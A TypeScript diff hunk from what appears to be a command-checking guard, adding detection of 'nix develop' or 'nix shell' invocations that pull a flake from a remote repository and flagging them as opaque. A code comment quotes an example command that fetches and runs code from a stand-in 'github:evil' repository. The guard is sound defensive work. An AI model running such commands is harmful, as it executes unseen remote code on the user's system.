@@ -880,6 +880,11 @@ function peel(host: UnwrapHost, u: Unwrapping, raw: W[]): Sub | undefined {
     if (name === 'nix' && (args[0]?.value === 'develop' || args[0]?.value === 'shell')) {
       const at = args.findIndex((w) => w.value === '-c' || w.value === '--command');
       if (at >= 0) {
+        // `nix shell github:evil/x -c id`: the flake (a remote repository's code) is built and its programs run.
+        const remote = args
+          .slice(1, at)
+          .find((w) => w.value !== null && /^(github|gitlab|sourcehut|git\+[a-z]+|hg\+[a-z]+|tarball\+[a-z]+|https?|file\+[a-z]+):/i.test(w.value));
+        if (remote) setMeta(u, 'opaque', `nix ${args[0].value} ${remote.text}: builds and runs code from a remote repository the guard cannot see`);
         const rest = args.slice(at + 1);
         if (rest.length === 0) return emit(host, u, words);
         words = wrap(u, 'nix', rest);
